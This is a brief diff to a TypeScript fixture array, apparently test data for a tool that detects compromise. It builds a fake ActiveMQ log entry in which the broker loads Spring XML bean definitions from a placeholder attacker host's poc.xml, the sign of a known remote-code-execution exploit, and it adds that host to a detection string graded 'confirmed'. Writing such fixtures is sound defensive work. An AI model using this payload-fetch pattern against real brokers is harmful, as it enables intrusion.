@@ -242,7 +242,7 @@ const doors: readonly Folder[] = [
       'opt/activemq/data/activemq.log': `${plain(2)},100 | INFO  | Loading XML bean definitions from URL [http://${attacker}/poc.xml] | org.springframework.beans.factory.xml.XmlBeanDefinitionReader | ActiveMQ Transport: tcp:///${attacker}:5@61616\n`,
       ...crontab('activemq'),
     }),
-    door: 'broker activemq ',
+    door: `broker activemq ${attacker}`,
     grade: 'confirmed',
   },
   {
